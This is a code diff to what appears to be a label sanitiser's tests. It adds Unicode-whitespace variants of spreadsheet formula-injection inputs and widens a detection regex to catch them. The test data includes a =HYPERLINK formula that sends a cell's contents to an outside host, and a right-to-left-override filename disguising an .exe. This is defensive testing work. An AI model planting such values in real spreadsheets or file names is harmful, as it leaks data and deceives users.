@@ -47,6 +47,8 @@ LABELS = [
     b"\t=1", b"\r=1", b"  =1", b'"=1"', b"a,=1", b"a;-1", b"1;@2, +3",
     "\uff1d1".encode(), "\uff0b1".encode(), "\uff0d1".encode(),
     "\uff201".encode(), b"=HYPERLINK(\"http://x/?\"&A1)",
+    "\u00a0=1".encode(), "\u3000\u2003 +1".encode(), "a;\u202f@1".encode(),
+    "\u1680\u205f\uff1d1".encode(),
     # Hidden characters and directions.
     "http://a/\u202egpj.exe".encode(), 
     "\u2066\u2069\u200e\u200f\u061c".encode(),
@@ -69,7 +71,7 @@ HIDDEN = re.compile("[\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e"
                     "\u2060-\u206f\ufeff\ufff9-\ufffb\ufffe\uffff"
                     "\U000e0000-\U000e007f]")
 CONTROL = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f]")
-FORMULA = re.compile("(?:^|[,;]) *[=+\\-@\"\uff1d\uff0b\uff0d\uff20]")
+FORMULA = re.compile("(?:^|[,;])\\s*[=+\\-@\"\uff1d\uff0b\uff0d\uff20]")
 NUMBER = re.compile(r"^-?(?:[0-9.]+(?:e[+-]?[0-9]+)?|nan|inf)?$")
 
 
